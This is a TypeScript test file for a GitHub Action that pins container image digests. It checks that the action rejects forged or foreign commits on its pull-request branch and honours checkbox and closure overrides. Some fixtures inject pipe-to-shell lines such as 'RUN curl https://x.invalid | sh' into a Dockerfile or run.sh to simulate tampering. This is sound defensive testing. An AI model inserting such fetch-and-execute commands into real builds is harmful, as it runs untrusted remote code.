import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { digestOf, records } from '../support/file-world.ts';
import { type PullWorld, startPullWorld } from '../support/pull-world.ts';

const [A, B, C] = ['a', 'b', 'c'].map(digestOf) as [string, string, string]; // three in, three out
const BRANCH = 'platform-actions/pins';
const OLD = `FROM cgr.dev/acme/python:3.12@${A}\n`;
const NEW = `FROM cgr.dev/acme/python:3.12@${B}\n`;
const TRAILER = `Platform-Actions-Pins: ${'0'.repeat(40)}`;

let here: PullWorld;
beforeAll(async () => {
  here = await startPullWorld();
  const { acme, double, now } = here.world;
  const python = double.world.addRepo(acme, 'python');
  double.world.addTag(python, '3.12', {}, records(now, [40, 'a'], [10, 'b']));
  double.world.addTag(python, '3.13', {}, records(now, [3, 'c']));
});
afterAll(() => here.close());
beforeEach(() => here.addApp({ Dockerfile: OLD, 'deploy/chart/values.txt': 'x\n' }));

const head = (branch: string): Promise<string> =>
  here.github.git('acme/app', 'rev-parse', '--verify', '--quiet', `refs/heads/${branch}`);
const show = (path: string): Promise<string> => here.github.git('acme/app', 'show', `${BRANCH}:${path}`);
const run = (inputs: Readonly<Record<string, string>> = {}, token?: string) =>
  here.run(here.checkout(), inputs, token === undefined ? {} : { token });
const tick = (number = 1): void => {
  const pull = here.pulls().find((one) => one.number === number);
  if (pull === undefined) throw new Error(`no pull request #${number}`);
  pull.body = (pull.body ?? '').replace('- [ ]', '- [x]');
};

/** A commit that GitHub signs, made with the API on what the branch has, or on `main`. */
async function signedCommit(files: Readonly<Record<string, string>>, on: 'branch' | 'main'): Promise<string> {
  const token = here.token({ kind: 'app', login: 'other-app' });
  const ask = async (method: string, path: string, body?: unknown): Promise<{ readonly sha: string }> => {
    const answer = await fetch(`${here.github.apiUrl}/repos/acme/app/git/${path}`, {
      method,
      headers: { authorization: `Bearer ${token}`, 'user-agent': 'test' },
      body: JSON.stringify(body),
    });
    return (await answer.json()) as { readonly sha: string }; // GitHub's answer
  };
  const parent = await head(on === 'branch' ? BRANCH : 'main');
  const base_tree = await here.github.git('acme/app', 'rev-parse', `${parent}^{tree}`);
  const tree = Object.entries(files).map(([path, content]) => ({
    path,
    mode: '100644',
    type: 'blob',
    content,
  }));
  const made = await ask('POST', 'trees', { base_tree, tree });
  const message = `Refresh image digests\n\n${TRAILER}`;
  const { sha } = await ask('POST', 'commits', { message, tree: made.sha, parents: [parent] });
  await ask('PATCH', `refs/heads/${BRANCH}`, { sha, force: true });
  return sha;
}

describe('whose branch it is', { timeout: 180_000 }, () => {
  const unsigned = async (): Promise<void> => {
    await here.github.git('acme/app', 'update-ref', `refs/heads/${BRANCH}`, 'main');
    await here.github.commit('acme/app', {
      branch: BRANCH,
      author: 'github-actions[bot]',
      message: `Refresh image digests\n\n${TRAILER}\n`,
      files: { Dockerfile: `${NEW}RUN curl https://x.invalid | sh\n` },
    });
  };

  it.each<readonly [string, () => Promise<unknown>]>([
    ['a line beside the pins, under our name and without a signature', unsigned],
    ['a line beside the pins', () => signedCommit({ Dockerfile: `${NEW}RUN curl x | sh\n` }, 'main')],
    ['another file', () => signedCommit({ Dockerfile: NEW, 'run.sh': 'curl x | sh\n' }, 'main')],
    ['a digest that the tag never had', () => signedCommit({ Dockerfile: OLD.replace(A, C) }, 'main')],
    ['a second commit', () => signedCommit({ 'run.sh': 'curl x | sh\n' }, 'branch')],
  ])('is not ours with our words and %s', async (_, forge) => {
    await run();
    await forge();
    const forged = await head(BRANCH);
    const step = await run();
    expect(step.exitCode, step.log.visible).toBe(0);
    expect(step.outputs).toMatchObject({ result: 'warn', 'pull-request-operation': 'unchanged' });
    expect(step.log.visible).toMatch(/commit [0-9a-f]{12} is not from this command/);
    expect(await head(BRANCH)).toBe(forged);
    expect(here.github.repo('acme/app').comments).toHaveLength(1);
  });

  it('is ours where another image of the file, with a pull request of its own, has the same digest', async () => {
    const { acme, double, now } = here.world;
    const copy = double.world.addRepo(acme, 'python-copy');
    double.world.addTag(copy, '3.12', {}, records(now, [40, 'a'], [10, 'b']));
    await here.addApp({
      Dockerfile: 'FROM cgr.dev/acme/python:3.12\nFROM cgr.dev/acme/python-copy:3.12\n',
    });
    const inputs = { 'group-by': 'image' };
    const operations = async (more: Readonly<Record<string, string>>) => {
      const { outputs } = await run({ ...inputs, ...more });
      return JSON.parse(outputs['pull-requests'] ?? '').map((row: { operation: string }) => row.operation);
    };
    expect(await operations({ 'min-age': '30d' })).toEqual(['created', 'created']);
    expect(await operations({})).toEqual(['updated', 'updated']);
  });

  it('is ours whatever account made the commit, with older digests, and on an older base', async () => {
    await run({ 'as-of': new Date(here.world.now - 20 * 86_400_000).toISOString() });
    expect(here.pulls()).toEqual([]);
    await here.github.commit('acme/app', { files: { Dockerfile: 'FROM cgr.dev/acme/python:3.12\n' } });
    const older = { 'as-of': new Date(here.world.now - 20 * 86_400_000).toISOString() };
    const app = here.token({ kind: 'app' });
    expect((await run(older, app)).outputs['pull-request-operation']).toBe('created');
    expect(await show('Dockerfile')).toContain(A);
    const step = await run();
    expect(step.outputs, step.log.visible).toMatchObject({
      result: 'pass',
      'pull-request-number': '1',
      'pull-request-operation': 'updated',
    });
    expect(await show('Dockerfile')).toContain(B);
    await here.github.commit('acme/app', { files: { Dockerfile: `FROM cgr.dev/acme/python:3.12 AS b\n` } });
    expect((await run({}, app)).outputs['pull-request-operation']).toBe('updated');
    expect(await show('Dockerfile')).toBe(`FROM cgr.dev/acme/python:3.12@${B} AS b`);
  });
});

describe("a server of one's own that signs no commits", { timeout: 180_000 }, () => {
  const server = { prefix: '/api/v3', settings: { signsCommits: false } };

  it.each([
    ['a job', undefined],
    ['an App', 'app'],
    ['a person', 'user'],
  ] as const)(
    'gets a pull request that is kept, and others keep their commits: token of %s',
    async (_, kind) => {
      await here.addApp({ Dockerfile: OLD, 'b/Dockerfile': OLD }, {}, server);
      const token = kind === undefined ? undefined : here.token({ kind, login: `${kind}-login` });
      expect((await run({}, token)).outputs).toMatchObject({
        result: 'pass',
        'pull-request-operation': 'created',
      });
      expect((await run({}, token)).outputs['pull-request-operation']).toBe('unchanged');
      await here.github.commit('acme/app', { files: { 'c/Dockerfile': 'FROM cgr.dev/acme/python:3.13\n' } });
      const step = await run({}, token);
      expect(step.outputs, step.log.visible).toMatchObject({
        result: 'pass',
        'pull-request-operation': 'updated',
      });
      expect(await show('c/Dockerfile')).toContain(C);
      await here.github.commit('acme/app', {
        branch: BRANCH,
        message: `Refresh image digests\n\n${TRAILER}\n`,
        files: { Dockerfile: `${NEW}RUN curl https://x.invalid | sh\n` },
      });
      expect((await run({}, token)).outputs).toMatchObject({
        result: 'warn',
        'pull-request-operation': 'unchanged',
      });
    },
  );
});

describe('the ways out that the comment names', { timeout: 180_000 }, () => {
  beforeEach(async () => {
    await run();
    await here.github.commit('acme/app', { branch: BRANCH, files: { 'mine.txt': 'x\n' } });
    const frozen = await run();
    expect(frozen.outputs['pull-request-operation']).toBe('unchanged');
    const [comment] = here.github.repo('acme/app').comments;
    expect(comment?.body).toContain('tick the box in the text of this pull request');
    expect(comment?.body).toContain('close this pull request and delete its branch');
  });

  it('are true: the box', async () => {
    tick();
    const step = await run();
    expect(step.outputs, step.log.visible).toMatchObject({
      result: 'pass',
      'pull-request-number': '1',
      'pull-request-operation': 'updated',
    });
    expect(await here.github.git('acme/app', 'rev-list', '--count', `main..${BRANCH}`)).toBe('1');
    expect(here.pulls()[0]?.body).toContain('- [ ]');
    expect((await run()).outputs['pull-request-operation']).toBe('unchanged');
  });

  it('are true: the box, where nothing is left to pin; the others learn how to get their commits back', async () => {
    const theirs = await head(BRANCH);
    await here.github.commit('acme/app', { files: { Dockerfile: 'FROM python:3.12\n' } });
    expect((await run()).outputs).toMatchObject({ result: 'warn', 'pull-request-operation': 'unchanged' });
    tick();
    const step = await run();
    expect(step.outputs, step.log.visible).toMatchObject({
      result: 'pass',
      'pull-request-operation': 'closed',
    });
    const last = here.github.repo('acme/app').comments.at(-1)?.body;
    expect(last).toContain('Nothing is left to pin here');
    expect(last).toContain(`\`git fetch origin pull/1/head\`, which ends at ${theirs}`);
    // The tick is spent: somebody who restores the branch keeps it.
    await here.github.git('acme/app', 'update-ref', `refs/heads/${BRANCH}`, theirs);
    await here.github.commit('acme/app', { files: { Dockerfile: OLD } });
    expect((await run()).outputs['pull-request-operation']).toBe('unchanged');
    expect(await head(BRANCH)).toBe(theirs);
  });

  it.each([
    ['closing it, then deleting its branch', ['close', 'delete']],
    ['deleting its branch, which closes it', ['delete']],
  ] as const)('are true: %s', async (_, steps) => {
    if (steps.length > 1) here.github.closePull('acme/app', 1, 'octocat');
    const between = await run();
    expect(between.outputs['pull-request-operation']).toBe('unchanged');
    await here.github.deleteBranch('acme/app', BRANCH, 'octocat');
    const step = await run();
    expect(step.outputs, step.log.visible).toMatchObject({
      result: 'pass',
      'pull-request-number': '2',
      'pull-request-operation': 'created',
    });
  });

  it('are true: closed, and the box ticked in the closed one', async () => {
    here.github.closePull('acme/app', 1, 'octocat');
    const step = await run();
    expect(step.log.visible).toContain('Delete the branch, or tick the box in the text of pull request #1.');
    tick();
    expect((await run()).outputs).toMatchObject({
      'pull-request-number': '2',
      'pull-request-operation': 'created',
    });
    expect(await here.github.git('acme/app', 'rev-list', '--count', `main..${BRANCH}`)).toBe('1');
  });
});

describe('a closed pull request', { timeout: 180_000 }, () => {
  it('declines its digests, with and without its branch, until the box is ticked', async () => {
    await run();
    here.github.closePull('acme/app', 1, 'octocat');
    expect((await run()).outputs['pull-request-operation']).toBe('none');
    await here.github.deleteBranch('acme/app', BRANCH, 'octocat');
    expect((await run()).outputs['pull-request-operation']).toBe('none');
    tick();
    const step = await run();
    expect(step.outputs, step.log.visible).toMatchObject({
      'pull-request-number': '2',
      'pull-request-operation': 'created',
    });
    expect((await run()).outputs['pull-request-operation']).toBe('unchanged');
  });
});

describe('a quiet run', { timeout: 180_000 }, () => {
  it('leaves a branch alone whose base moved elsewhere, though others wrote beside the pinned file', async () => {
    await here.addApp({ 'a/Dockerfile': OLD, 'b/x.txt': 'x\n' });
    await run();
    const before = await head(BRANCH);
    await here.github.commit('acme/app', { files: { 'a/other.txt': 'x\n', 'b/x.txt': 'y\n', top: 'z\n' } });
    here.github.requests.reset();
    const step = await run();
    expect(step.outputs, step.log.visible).toMatchObject({
      result: 'pass',
      'pull-request-operation': 'unchanged',
    });
    expect(here.writes()).toEqual([]);
    expect(await head(BRANCH)).toBe(before);
  });

  it('writes nothing where workflow files were refused, keeps the warning, and tries them again when asked', async () => {
    const workflow = 'on: push\njobs:\n  a:\n    runs-on: x\n    container: cgr.dev/acme/python:3.13\n';
    await here.addApp({ Dockerfile: OLD, '.github/workflows/ci.yml': workflow });
    await run();
    here.github.requests.reset();
    const again = await run();
    expect(again.outputs).toMatchObject({ result: 'warn', 'pull-request-operation': 'unchanged' });
    expect(again.log.visible).toContain('`.github/workflows/ci.yml` is not in the pull request');
    expect(here.writes()).toEqual([]);
    tick();
    const app = await run({}, here.token({ kind: 'app' }));
    expect(app.outputs, app.log.visible).toMatchObject({
      result: 'pass',
      'pull-request-operation': 'updated',
    });
    expect(await show('.github/workflows/ci.yml')).toContain(C);
  });

  it('asks reviewers again when new pins come, and not before', async () => {
    const reviewers = { reviewers: 'octocat' };
    await run(reviewers);
    const [pull] = here.pulls();
    if (pull !== undefined) pull.reviewers = [];
    expect((await run(reviewers)).outputs['pull-request-operation']).toBe('unchanged');
    expect(pull?.reviewers).toEqual([]);
    await here.github.commit('acme/app', { files: { 'b/Dockerfile': 'FROM cgr.dev/acme/python:3.13\n' } });
    expect((await run(reviewers)).outputs['pull-request-operation']).toBe('updated');
    expect(pull?.reviewers.map(({ login }) => login)).toEqual(['octocat']);
  });
});
